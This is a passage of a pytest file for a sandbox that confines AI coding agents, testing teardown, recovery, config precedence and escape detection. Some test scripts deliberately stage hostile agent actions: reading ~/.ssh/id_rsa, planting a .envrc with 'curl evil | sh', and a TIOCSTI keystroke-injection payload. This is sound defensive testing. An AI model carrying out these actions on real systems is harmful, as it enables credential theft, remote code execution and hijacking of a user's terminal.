@@ -1,0 +1,672 @@
+"""The session workflow (issue 8, foundation): the seed's three scenarios, each retry rule by fault
+injection, recovery after the supervisor is killed, configuration precedence and refusals.
+
+Sessions run through the real CLI as root with real per-session accounts, real cells and real snapshots.
+Each test gets its own state dir (AGENTCELL_STATE_DIR: checkpoints, account records, snapshots, audit log);
+its finalizer recovers whatever a failed test left (account, ACL grants, cell) before removing it.
+"""
+from __future__ import annotations
+
+import json
+import os
+import pwd
+import secrets
+import shutil
+import subprocess
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from agentcell.session.nodes import cell_cgroups
+from conftest import AGENTCELL, User, needs_root
+
+
+@dataclass
+class Env:
+    state: Path
+    project: Path
+
+    @property
+    def audit(self) -> Path:
+        return self.state / "audit.jsonl"
+
+
+@dataclass
+class Session:
+    rc: int
+    out: str
+    err: str
+    summary: dict[str, Any]
+
+
+def _environ(env: Env, extra: dict[str, str] | None = None) -> dict[str, str]:
+    base = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "LANG": "C.UTF-8", "AGENTCELL_STATE_DIR": str(env.state),
+            "AUDIT_LOG_PATH": str(env.audit), "BACKUP_DIR": str(env.state / "backups")}
+    return {**base, **(extra or {})}
+
+
+def session(env: Env, args: list[str], *, extra: dict[str, str] | None = None, timeout: float = 120) -> Session:
+    p = subprocess.run([AGENTCELL, "session", *args], capture_output=True, text=True, env=_environ(env, extra),
+                       timeout=timeout, cwd=env.project, stdin=subprocess.DEVNULL)
+    lines = p.stdout.rstrip("\n").split("\n")
+    summary: dict[str, Any] = {}
+    if lines and lines[-1].startswith(("{", "[")):
+        summary = json.loads(lines[-1])
+        lines = lines[:-1]
+    assert "Traceback" not in p.stderr, p.stderr
+    return Session(p.returncode, "\n".join(lines), p.stderr, summary)
+
+
+def scripted(env: Env, steps: str, *args: str, extra: dict[str, str] | None = None) -> Session:
+    script = env.state / f"steps-{secrets.token_hex(3)}.txt"
+    script.write_text(steps)
+    return session(env, ["start", "--harness", "scripted", "--json", *args, "--", str(script)], extra=extra)
+
+
+def records(env: Env, sid: str) -> list[dict[str, Any]]:
+    if not env.audit.exists():
+        return []
+    out = [json.loads(line) for line in env.audit.read_text().splitlines()]
+    return [r for r in out if r["session"] == sid]
+
+
+def account_gone(name: str | None) -> bool:
+    if name is None:
+        return True
+    try:
+        pwd.getpwnam(name)
+        return False
+    except KeyError:
+        return True
+
+
+def acl_names(path: Path) -> str:
+    return subprocess.run(["getfacl", "-Rcp", str(path)], capture_output=True, text=True).stdout
+
+
+@pytest.fixture
+def env(user: User, project: Path) -> Iterator[Env]:
+    """A project the throwaway user owns (src/ is declared, docs/ is not) and a private state dir."""
+    state = Path("/tmp") / ("agentcell-test-state-" + secrets.token_hex(4))
+    state.mkdir(mode=0o700)
+    (project / "src").mkdir()
+    (project / "src" / "app.py").write_text("x = 1\n")
+    (project / "docs").mkdir()
+    (project / "docs" / "notes.md").write_text("notes\n")
+    for p in (project / "src", project / "src" / "app.py", project / "docs", project / "docs" / "notes.md"):
+        shutil.chown(p, user.uid, user.gid)
+    e = Env(state, project)
+    try:
+        yield e
+    finally:
+        # Whatever a failed test left: its sessions' teardown (cell, ACL grants, account), then the files.
+        subprocess.run([AGENTCELL, "session", "recover"], env=_environ(e), capture_output=True, timeout=120)
+        left = sorted(os.listdir(state / "ephemeral")) if (state / "ephemeral").is_dir() else []
+        for name in left:
+            subprocess.run(["userdel", name], capture_output=True)
+            subprocess.run(["groupdel", name], capture_output=True)
+        subprocess.run(["chattr", "-R", "-i", str(state)], capture_output=True)
+        shutil.rmtree(state, ignore_errors=True)
+        assert not left, f"session accounts left behind: {left}"
+
+
+pytestmark = needs_root
+
+CLEAN = """\
+edit {p}/src/app.py 'x = 1' 'x = 2'
+write {p}/src/new.py 'print(1)'
+run python3 {p}/src/new.py
+sleep 600
+"""
+
+
+def test_a_clean_session_edits_only_declared_paths_and_ends_at_its_wall_clock(env: Env, user: User) -> None:
+    s = scripted(env, CLEAN.format(p=env.project), "--rw", "src", "--wall-clock", "3")
+    assert s.rc == 0, (s.out, s.err)
+    assert (s.summary["status"], s.summary["reason"], s.summary["escape_target"]) == ("completed", "timeout", None)
+    assert s.out.splitlines()[:4] == [f"step 1: ALLOWED: edited {env.project}/src/app.py",
+                                      f"step 2: ALLOWED: wrote {env.project}/src/new.py", "1",
+                                      f"step 3: ALLOWED: ran python3 {env.project}/src/new.py"], s.out
+    sid = s.summary["session"]
+    diff = session(env, ["diff", sid, "--json"])
+    assert diff.summary == {"added": [f"{env.project}/src/new.py"], "modified": [f"{env.project}/src/app.py"],
+                            "deleted": []}
+    assert (env.project / "docs" / "notes.md").read_text() == "notes\n"
+    # Torn down: the per-session account is gone, its ACL grants too, and what it made is the human's.
+    assert account_gone(s.summary["os_user"]) and s.summary["os_user"].startswith("ac-s")
+    assert s.summary["os_user"] not in acl_names(env.project) and str(s.summary["problems"]) == "[]"
+    assert (env.project / "src" / "new.py").stat().st_uid == user.uid
+    assert cell_cgroups(s.summary['cell_id']) == []
+    events = [r["event"] for r in records(env, sid)]
+    assert events == ["session.plan", "session.policy", "session.preflight", "session.account", "session.firewall",
+                      "session.spawn", "session.timeout", "session.terminate", "session.cleanup", "session.end"]
+    verify = subprocess.run([AGENTCELL, "audit", "verify", str(env.audit)], capture_output=True, text=True)
+    assert verify.returncode == 0, verify.stdout + verify.stderr
+    # And the human can have it all back.
+    assert session(env, ["restore", sid]).rc == 0
+    assert (env.project / "src" / "app.py").read_text() == "x = 1\n" and not (env.project / "src" / "new.py").exists()
+
+
+ESCAPE = """\
+edit {p}/src/app.py 'x = 1' 'x = 2'
+read ~/.ssh/id_rsa
+write {p}/src/after.txt 'still running'
+"""
+
+
+def test_an_escape_outside_the_declared_paths_terminates_the_session_and_is_audited(env: Env) -> None:
+    s = scripted(env, ESCAPE.format(p=env.project), "--rw", "src", "--wall-clock", "60")
+    assert s.rc == 120, (s.out, s.err)
+    assert s.summary["status"] == "terminated" and s.summary["escape_target"].endswith("/.ssh/id_rsa"), s.summary
+    assert s.summary["escape"]["operation"] == "read" and s.summary["escape"]["source"] == "canary"
+    assert not (env.project / "src" / "after.txt").exists()  # frozen and killed at the attempt
+    assert (env.project / "src" / "app.py").read_text() == "x = 2\n"
+    sid = s.summary["session"]
+    recs = {r["event"]: r for r in records(env, sid)}
+    assert recs["session.escape"]["details"]["target"] == s.summary["escape_target"]
+    assert recs["session.end"]["details"]["status"] == "terminated"
+    assert recs["session.end"]["details"]["escape"]["target"] == s.summary["escape_target"]
+    assert account_gone(s.summary["os_user"])
+
+
+def test_an_unwritable_backup_dir_aborts_before_spawn_and_the_harness_never_starts(env: Env) -> None:
+    backups = env.state / "ro-backups"
+    backups.mkdir()
+    subprocess.run(["chattr", "+i", str(backups)], check=True)  # not even root can create the store in it
+    steps = f"write {env.project}/src/started.txt yes\n"
+    s = scripted(env, steps, "--rw", "src", "--backup-dir", str(backups / "store"))
+    assert s.rc == 123, (s.out, s.err)
+    assert s.summary["status"] == "aborted" and "preflight failed" in s.summary["reason"], s.summary
+    assert not (env.project / "src" / "started.txt").exists() and s.out == ""
+    events = [r["event"] for r in records(env, s.summary["session"])]
+    assert events == ["session.plan", "session.policy", "session.abort", "session.cleanup", "session.end"]
+    assert s.summary["os_user"] is None and s.summary["cell_id"] and s.summary["backup_id"] is None
+
+
+# ---- the retry rules, by fault injection (AGENTCELL_TEST_FAULTS: POINT=how many times it fails) ------------
+
+WORK = "write {p}/src/started.txt yes\n"
+
+
+@pytest.mark.parametrize(("faults", "status", "rc", "started"), [
+    ("preflight=2", "completed", 0, True),  # two retries (1 s, 3 s): the third attempt backs up
+    ("account=1", "completed", 0, True),  # one retry
+    ("account=2", "terminated", 120, False),  # then terminate (nothing was spawned)
+    ("firewall=1", "completed", 0, True),
+    ("firewall=2", "aborted", 123, False),  # then abort before spawn
+    ("spawn=1", "completed", 0, True),
+    ("spawn=2", "aborted", 123, False),  # then abort, keeping the backup
+    ("telemetry=3", "completed", 0, True),  # three reconnects with backoff
+    ("telemetry=4", "terminated", 120, True),  # then lost telemetry is a violation
+    ("audit@spawn=1", "terminated", 120, None),  # an unwritable log (after the trail's 3 retries) terminates
+])
+def test_each_retry_rule(env: Env, faults: str, status: str, rc: int, started: bool | None) -> None:
+    steps = WORK.format(p=env.project) + ("sleep 2\n" if faults.startswith("telemetry") else "")
+    s = scripted(env, steps, "--rw", "src", "--wall-clock", "60", extra={"AGENTCELL_TEST_FAULTS": faults})
+    assert (s.rc, s.summary.get("status")) == (rc, status), (s.summary, s.err)
+    if started is not None:
+        assert (env.project / "src" / "started.txt").exists() == started, s.summary
+    assert account_gone(s.summary["os_user"]) and s.summary["problems"] == [], s.summary
+    sid = s.summary["session"]
+    events = [r["event"] for r in records(env, sid)]
+    point = faults.split("=")[0]
+    if point == "spawn" and status == "aborted":
+        assert s.summary["backup_id"] and "backup" in s.summary["reason"], s.summary
+        store = session(env, ["diff", sid, "--json"])  # the backup is there to compare with
+        assert store.rc == 0 and store.summary["added"] == [], store.summary
+    if point == "telemetry" and status == "terminated":
+        assert s.summary["escape"]["operation"] == "telemetry", s.summary
+    if point == "audit@spawn":
+        assert "audit log cannot be written" in s.summary["reason"] and "session.spawn" not in events
+        assert events[-3:] == ["session.terminate", "session.cleanup", "session.end"]
+    if status != "completed" or point != "preflight":
+        assert events.count("session.preflight") <= 1
+
+
+# ---- recovery, configuration, refusals ---------------------------------------------------------------
+
+
+def test_recover_finishes_the_teardown_after_the_supervisor_is_killed(env: Env) -> None:
+    marker = env.project / "src" / "running.txt"
+    script = env.state / "steps.txt"
+    script.write_text(f"write {marker} yes\nsleep 600\n")
+    sup = subprocess.Popen([AGENTCELL, "session", "start", "--harness", "scripted", "--rw", "src", "--json", "--",
+                            str(script)], env=_environ(env), cwd=env.project, stdout=subprocess.DEVNULL,
+                           stderr=subprocess.DEVNULL)
+    try:
+        for _ in range(600):  # the cell is up once the agent has written its marker
+            if marker.exists() or sup.poll() is not None:
+                break
+            time.sleep(0.05)
+        assert marker.exists(), "the session did not start"
+        listed = session(env, ["list", "--json"]).summary
+        [row] = listed  # type: ignore[misc]
+        assert row["status"] == "running" and not row["needs_recover"]
+    finally:
+        sup.kill()  # our own child: kill -9 of the supervisor, mid-session
+        sup.wait()
+    name = row["os_user"]
+    assert session(env, ["list", "--json"]).summary[0]["needs_recover"] is True  # type: ignore[index]
+    r = session(env, ["recover", "--json"])
+    [done] = r.summary  # type: ignore[misc]
+    assert (done["session"], done["status"]) == (row["session"], "terminated"), (done, r.err)
+    assert account_gone(name) and name not in acl_names(env.project)
+    assert cell_cgroups(row['cell_id']) == []
+    assert [e["event"] for e in records(env, row["session"])][-3:] == ["session.terminate", "session.cleanup",
+                                                                       "session.end"]
+    assert session(env, ["recover", "--json"]).summary == []  # nothing left to do
+
+
+def test_config_precedence_is_flags_then_env_then_dotenv_then_toml(tmp_path: Path) -> None:
+    from agentcell.session.config import load
+
+    (tmp_path / "agentcell.toml").write_text('[session]\nharness = "aider"\nwall_clock_limit_s = 10\n'
+                                             'declared_paths = ["src"]\nfirewall_enabled = true\n')
+    (tmp_path / ".env").write_text("WALL_CLOCK_LIMIT_S=20\nAGENT_HARNESS='codex'\nOPENAI_API_KEY=from-dotenv\n")
+    cfg = load({}, environ={"AGENT_HARNESS": "gemini"}, cwd=str(tmp_path))
+    assert (cfg.harness, cfg.wall_clock_limit_s, cfg.firewall_enabled) == ("gemini", 20, True)
+    assert cfg.declared_paths == (str(tmp_path / "src"),) and cfg.secrets == {}  # gemini reads no OpenAI key
+    cfg = load({"harness": "codex", "wall_clock_limit_s": "5"}, environ={}, cwd=str(tmp_path))
+    assert (cfg.harness, cfg.wall_clock_limit_s, cfg.secrets) == ("codex", 5, {"OPENAI_API_KEY": "from-dotenv"})
+    assert cfg.sources["wall_clock_limit_s"] == "--wall-clock"
+    assert "from-dotenv" not in json.dumps(cfg.as_dict())  # secrets are never part of the recorded config
+
+
+@pytest.mark.parametrize(("extra", "args", "message"), [
+    ({"WALL_CLOCK_LIMIT_S": "soon"}, [], "WALL_CLOCK_LIMIT_S: 'soon' is not a number of seconds (use a whole"),
+    ({"FIREWALL_ENABLED": "maybe"}, [], "FIREWALL_ENABLED: 'maybe' is not a boolean (use true or false)"),
+    ({}, ["--harness", "nope"], "--harness: unknown harness 'nope' (one of claude_code,"),
+    ({}, ["--wall-clock", "0"], "--wall-clock: 0 is not above 0"),
+    ({}, ["--harness", "codex"], "harness codex: codex (Codex CLI) is not installed where the cell can run it"),
+    ({}, ["--agent", "Not A Name"], "--agent: 'Not A Name' is not a valid agent name"),
+    ({}, ["--agent", "ac-nobody"], "identity: no account named 'ac-nobody'"),
+    ({}, ["--rw", "/tmp/agentcell-no-such-dir"], "declared_paths: /tmp/agentcell-no-such-dir does not exist"),
+    ({"DECLARED_PATHS": "/etc"}, [], "declared_paths: /etc is refused: it is a system directory"),
+])
+def test_bad_configuration_is_one_line_and_nothing_is_created(env: Env, extra: dict[str, str], args: list[str],
+                                                             message: str) -> None:
+    s = session(env, ["start", *args, "--", "true"], extra=extra)
+    assert s.rc == 125 and s.err.startswith(f"agentcell session: {message}"), s.err
+    assert len(s.err.strip().splitlines()) == 1
+    assert not (env.state / "sessions").exists() and not env.audit.exists()
+
+
+def test_agentcell_run_does_not_import_langgraph() -> None:
+    import sys
+
+    p = subprocess.run([sys.executable, "-X", "importtime", "-c",
+                        "import sys; from agentcell.cli.main import main; sys.exit(main(['run', '--explain', "
+                        "'--as', '65534', '--', 'true']))"], capture_output=True, text=True)
+    assert p.returncode == 0, p.stderr[-2000:]
+    assert "langgraph" not in p.stderr and "agentcell.session" not in p.stderr
+
+
+def named_acl_entries(path: Path) -> list[str]:
+    """ACL entries naming a user or group, anywhere below ``path`` (the test projects start with none)."""
+    out = subprocess.run(["getfacl", "-Rpn", str(path)], capture_output=True, text=True).stdout
+    return [line for line in out.splitlines()
+            if line.split(":")[0] in ("user", "group", "default") and line.split(":")[1 if not line.startswith(
+                "default:") else 2]]
+
+
+@pytest.mark.parametrize("node", ["plan", "policy", "preflight", "account", "firewall", "spawn", "monitor",
+                                  "terminate", "cleanup", "audit"])
+def test_kill_9_of_the_supervisor_at_any_node_then_recover_leaves_nothing_behind(env: Env, node: str) -> None:
+    before = (env.project / "src" / "app.py").read_bytes(), (env.project / "docs" / "notes.md").read_bytes()
+    s = scripted(env, f"write {env.project}/src/marker.txt yes\nsleep 600\n", "--rw", "src", "--wall-clock", "2",
+                 extra={"AGENTCELL_TEST_FAULTS": f"kill@{node}=1"})
+    assert s.rc == -9 and s.summary == {}, (s.rc, s.err)
+    r = session(env, ["recover", "--json"])
+    [done] = r.summary  # type: ignore[misc]
+    assert done["status"] in ("terminated", "completed") and done["problems"] == [], (done, r.err)
+    assert account_gone(done["os_user"]) and not list((env.state / "ephemeral").glob("*"))
+    assert named_acl_entries(env.project) == []
+    assert cell_cgroups(f"agentcell-{done['session']}") == []
+    assert not Path(f"/run/agentcell/cgroups/agentcell-{done['session']}").exists()
+    assert ((env.project / "src" / "app.py").read_bytes(), (env.project / "docs" / "notes.md").read_bytes()) == before
+    events = [r["event"] for r in records(env, done["session"])]
+    assert events[-1] == "session.end" and "session.spawn" not in events[events.index("session.end"):], events
+    assert session(env, ["recover", "--json"]).summary == []
+
+
+def test_session_stop_terminates_a_running_session(env: Env) -> None:
+    marker = env.project / "src" / "running.txt"
+    script = env.state / "steps.txt"
+    script.write_text(f"write {marker} yes\nsleep 600\n")
+    sup = subprocess.Popen([AGENTCELL, "session", "start", "--harness", "scripted", "--rw", "src", "--json", "--",
+                            str(script)], env=_environ(env), cwd=env.project, stdout=subprocess.PIPE,
+                           stderr=subprocess.DEVNULL, text=True)
+    try:
+        for _ in range(600):
+            if marker.exists() or sup.poll() is not None:
+                break
+            time.sleep(0.05)
+        [row] = session(env, ["list", "--json"]).summary  # type: ignore[misc]
+        # The cell was forked by its host process, not by the graph's (LangGraph keeps worker threads there).
+        uid = pwd.getpwnam(row["os_user"]).pw_uid
+        agent_pid = next(int(p) for p in os.listdir("/proc") if p.isdigit() and _uid_of(p) == uid)
+        chain = _ancestors(agent_pid)  # the cell's PID 1, C1 (forked: the host's cmdline), the host, us
+        host = [p for p in chain if b"agentcell.session.cellhost" in _cmdline(p)][-1]
+        assert chain[chain.index(host) + 1] == sup.pid
+        stop = session(env, ["stop", row["session"]])
+        assert stop.rc == 0, stop.err
+        out, _ = sup.communicate(timeout=60)
+    finally:
+        if sup.poll() is None:
+            sup.kill()
+            sup.wait()
+    summary = json.loads(out.strip().splitlines()[-1])
+    assert sup.returncode == 120 and summary["status"] == "terminated" and summary["reason"] == "stopped: signal 15"
+    assert account_gone(summary["os_user"]) and named_acl_entries(env.project) == []
+    again = session(env, ["stop", row["session"]])
+    assert again.rc == 125 and "has ended (terminated)" in again.err
+
+
+def _uid_of(pid: str) -> int:
+    try:
+        with open(f"/proc/{pid}/status") as f:
+            return int(next(line for line in f if line.startswith("Uid:")).split()[1])
+    except (OSError, StopIteration):
+        return -1
+
+
+def _cmdline(pid: int) -> bytes:
+    try:
+        with open(f"/proc/{pid}/cmdline", "rb") as f:
+            return f.read()
+    except OSError:
+        return b""
+
+
+def _ancestors(pid: int) -> list[int]:
+    out = []
+    while pid > 1:
+        with open(f"/proc/{pid}/status") as f:
+            pid = int(next(line for line in f if line.startswith("PPid:")).split()[1])
+        out.append(pid)
+    return out
+
+
+@pytest.fixture
+def agent(env: Env, user: User) -> Iterator[str]:
+    """A persistent agent (its human: the throwaway user) with docs/ shared read-write, deleted after."""
+    name = "ac-a" + secrets.token_hex(3)
+
+    def cli(*args: str) -> subprocess.CompletedProcess[str]:
+        return subprocess.run([AGENTCELL, "agent", *args], capture_output=True, text=True, env=_environ(env),
+                              cwd="/", stdin=subprocess.DEVNULL, timeout=60)
+
+    assert cli("new", name, "--human", user.name, "--yes").returncode == 0
+    try:
+        assert cli("mount", "add", "--rw", str(env.project / "docs"), "--agent", name).returncode == 0
+        yield name
+    finally:
+        p = cli("delete", name, "--yes")
+        assert p.returncode == 0, p.stderr
+
+
+def test_a_persistent_agent_keeps_its_own_shares_and_loses_the_sessions(env: Env, user: User, agent: str) -> None:
+    shared = named_acl_entries(env.project / "docs")
+    assert shared, "the persistent share made no ACL entry"
+    steps = f"write {env.project}/src/by-agent.py 'x = 3'\nwrite {env.project}/docs/by-agent.md hi\n"
+    s = scripted(env, steps, "--agent", agent, "--rw", "src", "--rw", "docs")
+    assert (s.rc, s.summary["status"], s.summary["os_user"]) == (0, "completed", agent), (s.out, s.err)
+    assert named_acl_entries(env.project / "src") == []  # the session's grant is gone
+    assert all(e in named_acl_entries(env.project / "docs") for e in shared)  # the agent's own share stays
+    assert (env.project / "src" / "by-agent.py").stat().st_uid == user.uid  # given to the agent's human
+    assert (env.project / "docs" / "by-agent.md").exists()
+
+
+def test_recover_after_a_kill_while_granting_spares_a_persistent_agents_own_shares(env: Env, agent: str) -> None:
+    shared = named_acl_entries(env.project / "docs")
+    s = scripted(env, "say hi\n", "--agent", agent, "--rw", "src", "--rw", "docs",
+                 extra={"AGENTCELL_TEST_FAULTS": "kill@account=1"})
+    assert s.rc == -9 and named_acl_entries(env.project / "src"), "the kill came before the grant"
+    [done] = session(env, ["recover", "--json"]).summary  # type: ignore[misc]
+    assert done["status"] == "terminated" and done["problems"] == [], done
+    assert named_acl_entries(env.project / "src") == [] and named_acl_entries(env.project / "docs") == shared
+
+
+def test_the_agent_cannot_read_dotenv_nor_change_the_config_of_the_next_session(env: Env) -> None:
+    (env.project / ".env").write_text("WALL_CLOCK_LIMIT_S=30\n")
+    (env.project / "agentcell.toml").write_text('[session]\nharness = "scripted"\n')
+    steps = (f"read {env.project}/.env\nappend {env.project}/agentcell.toml 'declared_paths = [\"/srv\"]'\n"
+             f"write {env.project}/src/agentcell.toml '[session]'\n")
+    script = env.state / "steps.txt"
+    script.write_text(steps)
+    s = session(env, ["start", "--json", "--", str(script)])  # the harness comes from agentcell.toml
+    assert s.rc == 0 and s.summary["harness"] == "scripted", (s.out, s.err)
+    lines = s.out.splitlines()
+    assert lines[0].startswith(f"step 1: DENIED: read {env.project}/.env") and "DENIED" in lines[1], s.out
+    assert (env.project / "agentcell.toml").read_text() == '[session]\nharness = "scripted"\n'
+    sources = session(env, ["show", s.summary["session"], "--json"]).summary["config"]["sources"]
+    assert sources["wall_clock_limit_s"] == f"WALL_CLOCK_LIMIT_S (in {env.project}/.env)"
+    assert sources["harness"] == f"{env.project}/agentcell.toml: session.harness"
+
+
+def test_a_config_file_the_agent_creates_is_reported(env: Env) -> None:
+    steps = f"write {env.project}/agentcell.toml '[session]'\n"
+    s = scripted(env, steps)  # the whole project is declared: its agentcell.toml is the next session's
+    assert s.rc == 0 and s.summary["warnings"] == [
+        f"{env.project}/agentcell.toml was created during the session: the next session reads it; review it first"]
+    assert "review it first" in s.err
+
+
+def test_api_keys_reach_the_cell_of_the_harness_that_needs_them_and_never_the_checkpoints(
+        env: Env, monkeypatch: pytest.MonkeyPatch) -> None:
+    """In-process (the codex binary is not installed here, and the CLI refuses a missing harness): the
+    codex profile's key, from .env, is in the cell; its value is in no checkpoint and no audit record."""
+    from langgraph.checkpoint.sqlite import SqliteSaver
+
+    from agentcell.session import config, graph, state
+
+    monkeypatch.setenv("AGENTCELL_STATE_DIR", str(env.state))
+    (env.state / "keys.env").write_text("OPENAI_API_KEY=sk-test-0123456789\nANTHROPIC_API_KEY=sk-not-for-codex\n")
+    cfg = config.load({"harness": "codex", "network": "none", "declared_paths": ["src"],
+                       "audit_log_path": str(env.audit), "backup_dir": str(env.state / "backups")},
+                      environ={"LANG": "C.UTF-8"}, cwd=str(env.project), dotenv=str(env.state / "keys.env"))
+    out = env.state / "out.txt"
+    fd = os.open(out, os.O_WRONLY | os.O_CREAT | os.O_CLOEXEC, 0o644)
+    try:
+        rt = state.Runtime(stdio=(0, fd, 2), secrets=dict(cfg.secrets), environ={"LANG": "C.UTF-8"})
+        conn = state.connect()
+        g = graph.build_graph(rt, checkpointer=SqliteSaver(conn))
+        final = graph.run(g, {"session_id": graph.new_session_id(), "config": cfg.as_dict(),
+                              "argv": ["sh", "-c", 'echo "openai=$OPENAI_API_KEY anthropic=$ANTHROPIC_API_KEY"']})
+        conn.close()
+    finally:
+        os.close(fd)
+    assert final["status"] == "completed" and final["reason"] == "exit 0", final.get("reason")
+    assert out.read_text() == "openai=sk-test-0123456789 anthropic=\n"
+    for f in [*(env.state / "sessions").iterdir(), env.audit]:
+        assert b"sk-test-0123456789" not in f.read_bytes(), f
+
+
+def test_ten_concurrent_sessions_cannot_see_each_others_files_or_processes(env: Env, user: User) -> None:
+    projects = [Path("/tmp") / ("agentcell-test-c" + secrets.token_hex(4)) for _ in range(10)]
+    sups: list[subprocess.Popen[str]] = []
+    try:
+        for i, p in enumerate(projects):
+            (p / "src").mkdir(parents=True)
+            (p / "src" / "secret.txt").write_text(f"project {i}\n")
+            for q in (p, p / "src", p / "src" / "secret.txt"):
+                shutil.chown(q, user.uid, user.gid)
+        for i, p in enumerate(projects):
+            others = "".join(f"read {q}/src/secret.txt\n" for q in projects if q != p)
+            script = env.state / f"steps-{i}.txt"
+            script.write_text(f"write {p}/src/mine.txt {i}\n{others}run ps -eo uid=,comm=\n")
+            sups.append(subprocess.Popen([AGENTCELL, "session", "start", "--harness", "scripted", "--project", str(p),
+                                          "--json", "--", str(script)], env=_environ(env), cwd=p, text=True,
+                                         stdout=subprocess.PIPE, stderr=subprocess.PIPE))
+        outs = [s.communicate(timeout=300) for s in sups]
+        for i, (out, err) in enumerate(outs):
+            summary = json.loads(out.strip().splitlines()[-1])
+            assert summary["status"] == "completed" and summary["exit_status"] == 0, (i, summary, err)
+            lines = out.strip().splitlines()[:-1]
+            denied = [line for line in lines if "DENIED: read" in line]
+            assert len(denied) == 9 and all("No such file or directory" in line for line in denied), lines
+            uids = {line.split()[0] for line in lines if line.split()[0].isdigit()}
+            assert len(uids) == 1, lines  # only its own account's processes: a PID namespace per cell
+            assert (projects[i] / "src" / "mine.txt").read_text() == f"{i}\n"
+            assert account_gone(summary["os_user"])
+    finally:
+        for s in sups:
+            if s.poll() is None:
+                s.kill()
+                s.wait()
+        for p in projects:
+            shutil.rmtree(p, ignore_errors=True)
+
+
+def test_the_seed_firewall_refuses_and_reports_egress_outside_443_and_goes_away(env: Env) -> None:
+    s = scripted(env, "connect 127.0.0.1 9\nsleep 600\n", "--rw", "src", "--wall-clock", "60",
+                 extra={"FIREWALL_ENABLED": "true"})
+    assert s.rc == 120 and s.out.startswith("step 1: DENIED: connect 127.0.0.1 9"), (s.out, s.err)
+    assert (s.summary["escape_target"], s.summary["escape"]["source"]) == ("127.0.0.1:9", "nftables"), s.summary
+    firewall = next(r for r in records(env, s.summary["session"]) if r["event"] == "session.firewall")
+    assert firewall["details"]["network"] == "host-firewall" and firewall["details"]["table"]
+    tables = subprocess.run(["nft", "list", "tables"], capture_output=True, text=True).stdout
+    assert firewall["details"]["table"] not in tables
+
+
+STI_ATTACK = """
+import fcntl, os, termios
+print("TTY", os.ttyname(1))
+fd = os.open("/dev/tty", os.O_RDWR) if os.path.exists("/dev/tty") else 0
+for c in b"echo INJECTED\\n":
+    try:
+        fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))
+    except OSError as e:
+        print("STI-REFUSED", e.errno)
+        break
+"""
+
+
+def _read_all(fd: int, until: bytes, limit_s: float = 60) -> bytes:
+    import select
+
+    out, end = b"", time.monotonic() + limit_s
+    while until not in out and time.monotonic() < end:
+        if select.select([fd], [], [], 0.5)[0]:
+            try:
+                chunk = os.read(fd, 65536)
+            except OSError:  # EIO: the terminal's last process has exited
+                break
+            if not chunk:
+                break
+            out += chunk
+    return out
+
+
+def test_the_harness_gets_a_terminal_of_its_own_and_cannot_type_into_ours(env: Env) -> None:
+    import pty
+
+    script = (f"{AGENTCELL} session start --rw src -- python3 -c '{STI_ATTACK}'; "
+              "IFS= read -r -t 2 line; echo \"SHELL-READ:[$line]\"")
+    pid, fd = pty.fork()
+    if pid == 0:
+        os.chdir(env.project)
+        os.execve("/bin/bash", ["/bin/bash", "--norc", "-c", script], _environ(env))
+    try:
+        out = _read_all(fd, b"SHELL-READ:")
+        out += _read_all(fd, b"]", 10)
+    finally:
+        os.kill(pid, 9)
+        os.waitpid(pid, 0)
+        os.close(fd)
+    text = out.decode(errors="replace")
+    assert "TTY /dev/pts/0" in text and "SHELL-READ:[]" in text, text  # the cell's own pty, relayed
+    assert "terminated (escape: write ioctl TIOCSTI" in text, text  # and the attempt ends the session
+
+
+def test_build_graph_reads_like_the_diagram_and_declares_the_retry_rules() -> None:
+    from langgraph.types import RetryPolicy
+
+    from agentcell import build_graph
+
+    g = build_graph()
+    edges = {(e.source, e.target) for e in g.get_graph().edges}
+    main_line = ["__start__", "plan", "policy", "preflight", "account", "firewall", "spawn", "monitor", "terminate",
+                 "cleanup", "audit", "__end__"]
+    assert set(zip(main_line, main_line[1:], strict=False)) | {("monitor", "monitor")} <= edges, edges
+    retries = {name: g.builder.nodes[name].retry_policy for name in ("preflight", "account", "firewall", "spawn",
+                                                                      "monitor")}
+    got = {n: (p.max_attempts, p.initial_interval, p.backoff_factor) for n, p in retries.items()
+           if isinstance(p, RetryPolicy)}
+    assert got == {"preflight": (3, 1.0, 3.0), "account": (2, 0.5, 2.0), "firewall": (2, 0.5, 2.0),
+                   "spawn": (2, 0.5, 2.0), "monitor": (4, 0.5, 2.0)}
+
+
+def test_what_the_agent_plants_for_the_humans_tools_is_moved_aside(env: Env, user: User) -> None:
+    s = scripted(env, f"write {env.project}/.envrc 'curl evil | sh'\nwrite {env.project}/src/ok.py 'x = 1'\n")
+    assert s.rc == 0 and s.summary["status"] == "completed", (s.out, s.err)
+    assert not (env.project / ".envrc").exists() and (env.project / "src" / "ok.py").exists()
+    [warning] = s.summary["warnings"]
+    assert warning.startswith(f"the agent created {env.project}/.envrc, which decides what git, your shell or your "
+                              "agent runs; it was moved to "), warning
+    moved = Path(warning.rsplit(" ", 1)[1])
+    assert moved.read_text() == "curl evil | sh\n" and moved.stat().st_uid == user.uid
+
+
+def test_a_proxy_session_refuses_a_name_off_its_allow_list_and_ends(env: Env) -> None:
+    fetch = ("import urllib.request\ntry:\n    urllib.request.urlopen('https://blocked.invalid/', timeout=5)\n"
+             "except OSError as e:\n    print('refused', e)")
+    s = session(env, ["start", "--rw", "src", "--net", "proxy", "--json", "--", "python3", "-c", fetch])
+    assert s.rc == 120 and s.summary["status"] == "terminated", (s.summary, s.err)
+    assert (s.summary["escape_target"], s.summary["escape"]["source"]) == ("blocked.invalid:443", "proxy")
+
+
+def test_a_cell_host_that_dies_is_lost_telemetry_and_terminates_the_session(env: Env) -> None:
+    marker = env.project / "src" / "running.txt"
+    script = env.state / "steps.txt"
+    script.write_text(f"write {marker} yes\nsleep 600\n")
+    sup = subprocess.Popen([AGENTCELL, "session", "start", "--harness", "scripted", "--rw", "src", "--json", "--",
+                            str(script)], env=_environ(env), cwd=env.project, stdout=subprocess.PIPE,
+                           stderr=subprocess.DEVNULL, text=True)
+    try:
+        for _ in range(600):
+            if marker.exists() or sup.poll() is not None:
+                break
+            time.sleep(0.05)
+        children = subprocess.run(["ps", "-o", "pid=", "--ppid", str(sup.pid)], capture_output=True,
+                                  text=True).stdout.split()
+        [host] = [int(p) for p in children if b"agentcell.session.cellhost" in _cmdline(int(p))]
+        os.kill(host, 9)  # started by the session we started: the cell's host dies under it
+        out, _ = sup.communicate(timeout=60)
+    finally:
+        if sup.poll() is None:
